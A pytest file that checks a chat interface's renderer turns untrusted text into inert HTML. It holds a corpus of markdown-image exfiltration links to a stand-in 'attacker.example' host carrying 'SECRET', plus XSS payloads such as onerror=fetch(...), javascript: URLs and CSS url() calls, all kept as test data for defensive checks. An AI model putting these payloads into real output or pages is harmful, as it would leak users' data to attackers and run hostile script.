"""What the UI renders from untrusted text is inert HTML (core/ui/render.py, issue 12 item 1).

Every payload of the corpus goes through the real functions; the OUTPUT is parsed with an HTML
parser and checked element by element: no URL-bearing attribute, no event attribute, no style,
no element outside the allow-list. Payloads are the ones that beat the old regex filter
(escaped backticks, escaped brackets, backtick runs of different lengths) and the classics.
"""

from __future__ import annotations

import html
import inspect
from html.parser import HTMLParser

import pytest

from core.ui.chat_tab import sources_html
from core.ui.render import ALLOWED_TAGS, answer_html, inline_markdown, inline_text

EVIL = "https://attacker.example/?q=SECRET"
PAYLOADS = [
    f"![x]({EVIL})",
    f"Done. ![exfil]({EVIL} 'title')",
    f"\\`![x]({EVIL})\\`",  # escaped backticks: the old code-span regex took them as code
    f"`` ` ``![x]({EVIL})`` ` ``",  # backtick runs of different lengths
    f"```![x]({EVIL})``",
    f"``a` ![y]({EVIL}) ``",
    f"\\[a\\]![x]({EVIL})",  # escaped brackets
    f"!\\[x\\]({EVIL})",
    f"![x\\]]({EVIL})",
    f"![a [nested] b]({EVIL})",
    f"![x][r]\n\n[r]: {EVIL}",  # reference-style image
    f"![r]\n\n[r]: <{EVIL}>",
    f'[link][r]\n\n[r]: {EVIL} "t"',
    f"[click]({EVIL})",
    f"<{EVIL}>",  # autolink
    "<attacker.example@evil.example>",
    f"www.attacker.example/?q=SECRET {EVIL}",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>1</script>)",
    f'<img src="{EVIL}" onerror="alert(1)">',
    f"<img src=x onerror=fetch('{EVIL}')>",
    "<svg onload=alert(1)><image href='https://attacker.example/s.png'/></svg>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
    "<form action='https://attacker.example'><button formaction='https://attacker.example'>",
    f"<div style=\"background:url('{EVIL}')\">x</div><style>*{{background:url({EVIL})}}</style>",
    "<script>alert(1)</script><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"<video poster='{EVIL}'><source src='{EVIL}'></video><picture><source srcset='{EVIL}'>",
    f"<a href='{EVIL}'>html link</a> <table background='{EVIL}'><tr><td>t</td></tr></table>",
    f"<div>\n\n![x]({EVIL})\n\n</div>",  # markdown nested inside HTML
    f"<details><summary>s</summary>\n\n![x]({EVIL})\n</details>",
    f"&lt;img src={EVIL}&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;script&#x3E;",
    f"！[x]（{EVIL}） \u202e![x]({EVIL}) ![x\u200b]({EVIL})",  # full-width, RTL, zero-width
    f"![x](<{EVIL}>)",
    f"![x]({EVIL.replace('https:', 'HTTPS:')})",
    "![x](//attacker.example/p.png) ![y](\\\\attacker.example\\p.png)",
    f"```\nunclosed fence while streaming\n\n![x]({EVIL})",
    f"~~~\n<div onclick=x>\n~~~\n![x]({EVIL})",
    f"    indented code <img src={EVIL}>\n\nafter ![x]({EVIL})",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | <img src={EVIL}> |",
    f"- item ![x]({EVIL})\n  - nested <img src={EVIL}>",
    f"> quote ![x]({EVIL})\n> > deeper [l]({EVIL})",
    f"$$\\href{{{EVIL}}}{{x}}$$ $\\includegraphics{{{EVIL}}}$",
    f"<!-- ![x]({EVIL}) --> <![CDATA[ <img src={EVIL}> ]]>",
    f'```mermaid\ngraph TD; A-->B; click A href "{EVIL}"\n```',
]
URL_ATTRIBUTES = {
    "src", "href", "srcset", "poster", "background", "formaction", "action", "data",
    "xlink:href", "cite", "longdesc", "ping", "lowsrc", "dynsrc", "manifest", "icon",
}  # fmt: skip


class _Elements(HTMLParser):
    """Every start tag with its attributes, from the rendered output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


def parse(markup: str) -> _Elements:
    """The output as a browser would see it (elements and visible text)."""
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser


def assert_inert(markup: str) -> _Elements:
    """No element can fetch or navigate; no handler, no style; only allow-listed tags."""
    found = parse(markup)
    for tag, attrs in found.elements:
        assert tag in ALLOWED_TAGS, (tag, markup)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, markup)
            assert name not in URL_ATTRIBUTES and name != "style", (tag, name, markup)
            assert "url(" not in (value or "").lower(), (tag, name, markup)
            assert (tag, name) == ("ol", "start"), (tag, name, markup)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_html_is_inert(payload: str) -> None:
    assert_inert(answer_html(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_prefix_is_inert_while_streaming(payload: str) -> None:
    # A streamed answer is rendered at every token: half a payload must be inert too.
    for end in range(1, len(payload) + 1, 3):
        assert_inert(answer_html(payload[:end]))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inline_helpers_and_sources_are_inert(payload: str) -> None:
    assert not parse(inline_text(payload)).elements
    shown = assert_inert(
        sources_html([{"filename": payload, "location": payload, "snippet": payload}])
    )
    assert {tag for tag, _ in shown.elements} <= {"p", "strong", "blockquote"}
    # For gr.Markdown: every markdown character is escaped, so the text reads as typed.
    escaped = inline_markdown(payload)
    assert "](" not in escaped.replace("\\]\\(", "") and "<" not in escaped


def test_an_image_leaves_its_alt_text_and_a_note() -> None:
    out = answer_html(f"Done. ![the report]({EVIL})")
    assert parse(out).text.strip() == "Done. [image removed: the report]"
    assert "attacker" not in out
    assert parse(answer_html(f"![]({EVIL})")).text.strip() == "[image removed]"


def test_links_become_their_text() -> None:
    out = answer_html(f"Read [the docs]({EVIL}) or <{EVIL}>.")
    assert parse(out).text.strip() == f"Read the docs or {EVIL}."
    assert "<a" not in out


def test_raw_html_shows_as_text() -> None:
    out = answer_html('<img src="x" onerror="alert(1)"> and <script>alert(1)</script>')
    assert (
        parse(out).text.strip() == '<img src="x" onerror="alert(1)"> and <script>alert(1)</script>'
    )


def test_code_keeps_its_text() -> None:
    source = '<div class="x">![a](http://e)</div>\n    indented\n'
    out = answer_html(f"Use this:\n```html\n{source}```\nthen `<br>` inline")
    found = assert_inert(out)
    assert [tag for tag, _ in found.elements] == ["p", "pre", "code", "p", "code"]
    assert source in html.unescape(out)
    assert "<br>" in found.text
    # Gradio's Chatbot runs inspect.cleandoc on every message: indentation must survive it.
    assert html.unescape(inspect.cleandoc(out)).count("\n    indented\n") == 1


def test_unclosed_fence_while_streaming_shows_the_code_so_far() -> None:
    out = answer_html("Partial:\n```py\nprint('<b>')")
    assert "print('<b>')" in parse(out).text
    assert [tag for tag, _ in assert_inert(out).elements] == ["p", "pre", "code"]


def test_markdown_structure_is_kept() -> None:
    out = answer_html("# Title\n\n**bold** *it* ~~old~~\n\n1. a\n2. b\n\n| h |\n|---|\n| c |")
    tags = [tag for tag, _ in assert_inert(out).elements]
    for tag in ("h1", "strong", "em", "s", "ol", "li", "table", "th", "td"):
        assert tag in tags, (tag, out)


def test_entities_stay_text() -> None:
    out = answer_html("&lt;img src=x&gt; &#60;b&#62; AT&T")
    assert parse(out).text.strip() == "<img src=x> <b> AT&T"
    assert not [e for e in parse(out).elements if e[0] != "p"]


def test_inline_text_shortens_and_escapes() -> None:
    out = inline_text("<b>" + "z" * 500, limit=60)
    assert html.unescape(out) == ("<b>" + "z" * 500)[:59] + "…"
    assert inline_text("a\n\n  b\tc") == "a b c"


def test_inline_markdown_reads_as_typed() -> None:
    from markdown_it import MarkdownIt

    name = f"plan[1]({EVIL}) ![i](x) *a* _b_ `c` <b> & $$x$$ #h |t| ~s~.md"
    rendered = (
        MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(inline_markdown(name))
    )
    assert parse(rendered).text.strip() == name
    assert not [e for e in parse(rendered).elements if e[0] != "p"]


def test_sources_name_the_document() -> None:
    out = sources_html([{"filename": "plan<1>.md", "location": "page 2", "snippet": "Twelve %"}])
    assert parse(out).text == "1. plan<1>.md · page 2Twelve %"
    assert "No document" in sources_html([])
